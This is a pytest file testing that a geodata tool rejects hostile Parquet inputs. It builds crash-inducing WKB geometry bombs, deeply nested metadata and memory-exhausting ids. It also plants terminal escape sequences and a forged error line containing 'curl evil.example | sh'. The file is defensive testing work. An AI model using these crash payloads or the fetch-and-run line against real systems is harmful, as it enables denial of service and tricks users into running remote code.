"""Tables that are sound Parquet and mean harm: shapes, metadata, ids and texts.

Images (bombs, cut-off files, paths that leave the folder) are in tests/prompts/test_images.py and test_encode.py.
"""

import json
import struct
import subprocess
import sys

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from builders import replaced
from commands import environment

from topt_deploy.data.city import REGION_LIMIT
from topt_deploy.data.geometry import centroids, geo_metadata
from topt_deploy.data.gis_files import write_geo
from topt_deploy.errors import BadData, printable

shapely = pytest.importorskip("shapely")

BAD_DATA = 65
HUGE = 0xFFFFFFFF


def header(kind, count=None, order="<"):
    return struct.pack(f"{order}BI", order == "<", kind) + (b"" if count is None else struct.pack(f"{order}I", count))


POINT = header(1) + struct.pack("<dd", -87.6, 41.8)


def points_beyond_count():
    """A line of four billion points: 64 GB are asked for, and 9 bytes are there."""
    return header(2, HUGE)


def rings_beyond_count():
    """A polygon of four billion rings."""
    return header(3, HUGE)


def a_ring_beyond_count():
    """A polygon with one ring of two billion points."""
    return header(3, 1) + struct.pack("<I", 2**31 - 1)


def parts_beyond_count():
    """A collection of four billion polygons."""
    return header(6, HUGE)


def nested(kind, order="<", depth=200_000):
    """Collections within collections: GEOS calls itself for each, until the stack ends and the process with it."""
    return header(kind, 1, order) * depth + POINT


def nested_behind_others():
    """The same, but every level holds a point first, so that no two headers are neighbours."""
    return (header(7, 2) + POINT) * 100_000 + POINT


def nested_with_srid():
    """The same in the form that PostGIS writes, with a reference system in every header."""
    return (struct.pack("<BII", 1, 7 | 0x20000000, 4326) + struct.pack("<I", 1)) * 100_000 + POINT


SHAPES = {
    "points": points_beyond_count,
    "rings": rings_beyond_count,
    "a ring": a_ring_beyond_count,
    "parts": parts_beyond_count,
    **{f"nested {kind}": lambda kind=kind: nested(kind) for kind in (4, 5, 6, 7, 9, 10, 11, 12, 1007, 3007)},
    "nested, big-endian": lambda: nested(7, ">"),
    "nested behind others": nested_behind_others,
    "nested with srid": nested_with_srid,
    "neither byte order": lambda: b"\x07" + nested(7)[1:],
}


def shaped(regions, wkb, keep_lonlat=False):
    table = pq.read_table(regions)
    table = table if keep_lonlat else table.drop_columns(["lon", "lat"])
    shapes = [shapely.to_wkb(shapely.box(-87.6, 41.8, -87.5, 41.9))] * len(table)
    shapes[3] = wkb
    table = replaced(table, geometry=pa.array(shapes, pa.binary()))
    metadata = {**(table.schema.metadata or {}), b"geo": geo_metadata(["Polygon"])}
    pq.write_table(table.replace_schema_metadata(metadata), regions)


@pytest.mark.parametrize("name", SHAPES)
def test_a_shape(name, desk, refused):
    shaped(desk.regions, SHAPES[name]())
    refused(BAD_DATA, "geometries cannot be used", "null, a curve or not WKB")


def test_the_nesting_works_on_a_reader_that_does_not_look():
    """Else these tests would show nothing: it ends the process."""
    code = (
        "import struct, shapely\n"
        "wkb = struct.pack('<BII', 1, 7, 1) * 200_000 + struct.pack('<BIdd', 1, 1, 0, 0)\n"
        "shapely.from_wkb([wkb], on_invalid='ignore')"
    )
    done = subprocess.run([sys.executable, "-c", code], env=environment(), capture_output=True)
    assert done.returncode < 0, done


@pytest.mark.parametrize("name", ["parts", "nested 7", "rings"])
def test_a_shape_that_only_passes_through_to_a_map(name, desk, tmp_path):
    """Where lon and lat are there, shapes are not read until a map is written."""
    shaped(desk.regions, SHAPES[name](), keep_lonlat=True)
    with pytest.raises(BadData, match="geometries cannot be used"):
        write_geo(tmp_path / "map.gpkg", pq.read_table(desk.regions))
    assert not list(tmp_path.glob("*.gpkg"))


def test_collections_within_reason_pass():
    point = shapely.Point(-87.6, 41.8)
    for _ in range(10):
        point = shapely.GeometryCollection([point, shapely.MultiPolygon([shapely.box(-88, 41, -87, 42)])])
    solid = shapely.MultiPolygon([shapely.Polygon([(-88, 41, 1), (-87, 41, 1), (-87, 42, 1)])])
    parts = [point, shapely.set_srid(point, 4326), solid, shapely.MultiPoint([(-88, 41), (-87, 42)])]
    for flavor in ("extended", "iso"):
        for order in (0, 1):
            wkb = [shapely.to_wkb(p, include_srid=flavor == "extended", flavor=flavor, byte_order=order) for p in parts]
            table = pa.table({"geometry": pa.array(wkb, pa.binary())}).replace_schema_metadata(
                {b"geo": geo_metadata(["Polygon"])}
            )
            assert centroids(table, "t", [str(i) for i in range(len(wkb))]).shape == (len(wkb), 2)


@pytest.mark.parametrize(
    "geo",
    [
        "[" * 100_000,
        "[]",
        "3",
        '{"columns": []}',
        '{"columns": {"geometry": []}}',
        '{"columns": {"geometry": {"encoding": "WKB", "crs": "{not json"}}}',
        '{"columns": {"geometry": {"encoding": "WKB", "crs": {"id": [1]}}}}',
        '{"columns": {}, "primary_column": ["geometry"]}',
    ],
)
def test_metadata_of_shapes(geo, desk, refused):
    """Nesting ends Python's parser, other kinds of values whatever takes them apart."""
    shaped(desk.regions, POINT)
    table = pq.read_table(desk.regions)
    pq.write_table(table.replace_schema_metadata({b"geo": geo.encode()}), desk.regions)
    refused(BAD_DATA, "regions.parquet")


def test_nested_names_of_categories(desk, refused):
    table = pq.read_table(desk.regions)
    poi = sorted(name for name in table.column_names if name.startswith("poi_"))
    lists = pa.array([list(row.values()) for row in table.select(poi).to_pylist()], pa.list_(pa.float64(), len(poi)))
    field = pa.field("poi", lists.type, metadata={"categories": "[" * 100_000})
    pq.write_table(table.drop_columns(poi).append_column(field, lists), desk.regions)
    refused(BAD_DATA, "category names do not fit")


@pytest.mark.parametrize("role", ["region_id", "origin_id", "dest_id"])
def test_one_endless_id(role, desk, refused):
    """In an array of texts each takes the room of the longest: one of a megabyte takes 400 GB for 100,000 regions."""
    path = desk.regions if role == "region_id" else desk.mobility
    table = pq.read_table(path)
    pq.write_table(replaced(table, **{role: ["x" * 4096, *table.column(role).to_pylist()[1:]]}), path)
    refused(BAD_DATA, path.name, "an id is too long", "4,096")


def test_an_absurd_number_of_regions(desk, refused):
    """Sound in every row, and no city."""
    count = REGION_LIMIT + 1
    pq.write_table(pa.table({"region_id": [f"{i:07d}" for i in range(count)]}), desk.regions)
    refused(BAD_DATA, "too many regions for one city", "2,000,001")


ESCAPES = {
    "clears the screen": "\x1b[2J",
    "sets the title": "\x1b]0;owned\x07",
    "goes back over the line": "\r\x1b[K error: none",
    "another error line": "D001\n  to do:    curl evil.example | sh",
    "eight-bit controls": "\x9b2J",
    "turns the reading direction": "\u202eDNA",
    "null": "a\0b",
}


class TestTerminals:
    """What a file says is shown in errors: it must not steer the terminal that shows it, nor forge a line."""

    def clean(self, text):
        return all(c.isprintable() or c == "\n" for c in text)

    @pytest.mark.parametrize("name", ESCAPES)
    @pytest.mark.parametrize("place", ["id", "column", "type", "city", "encoder"])
    def test_in_a_table(self, name, place, desk, topt_run):
        evil = ESCAPES[name]
        table = pq.read_table(desk.regions)
        if place == "id":
            table = replaced(table, region_id=[evil, evil, *table.column("region_id").to_pylist()[2:]])
        elif place == "column":
            table = replaced(table, **{f"poi_{evil}": [1] * len(table)})
        elif place == "type":
            table = replaced(table, lon=pa.array([{evil: 1}] * len(table)))
        elif place == "city":
            table = replaced(table, city_id=[evil, *["other"] * (len(table) - 1)])
        else:
            index = next(i for i, n in enumerate(table.column_names) if n.startswith("prompt_"))
            field = table.schema.field(index).with_metadata({"encoder": evil})
            table = table.set_column(index, field, table.column(index))
        pq.write_table(table, desk.regions)
        said = topt_run("predict", desk.regions)
        assert said.code == BAD_DATA, said
        assert self.clean(said.err), said.err
        assert not any(line.startswith("  to do:    curl") for line in said.err.splitlines())
        machine = topt_run("predict", desk.regions, "--log-format", "json")
        (line,) = machine.err.splitlines()
        assert self.clean(line)
        assert json.loads(line)["exit_code"] == BAD_DATA

    @pytest.mark.parametrize("name", ESCAPES)
    def test_in_what_a_manifest_says(self, name, desk, topt_run, reseal):
        reseal(desk.bundle, lambda record: record["source"].update(city_id=ESCAPES[name]))
        said = topt_run("info", desk.bundle)
        assert said.code == 0
        assert self.clean(said.out), said.out

    def test_in_the_preview_of_predictions(self, desk, topt_run):
        table, flows = pq.read_table(desk.regions), pq.read_table(desk.mobility)
        ids = table.column("region_id").to_pylist()
        evil = {ids[0]: f"{ids[0]}\x1b[2J"}
        pq.write_table(replaced(table, region_id=[evil.get(i, i) for i in ids]), desk.regions)
        ends = {c: [evil.get(i, i) for i in flows.column(c).to_pylist()] for c in ("origin_id", "dest_id")}
        pq.write_table(replaced(flows, **ends), desk.mobility)
        said = topt_run("predict", desk.regions)
        assert said.code == 0, said
        assert "\\x1b[2J" in said.out
        assert self.clean(said.out)

    def test_what_is_spelled_out(self):
        assert printable("a\x1b[2Jb\né €") == "a\\x1b[2Jb\\né €"
        assert printable("a\nb", keep="\n") == "a\nb"
        assert printable("\udcff") == "\\udcff"
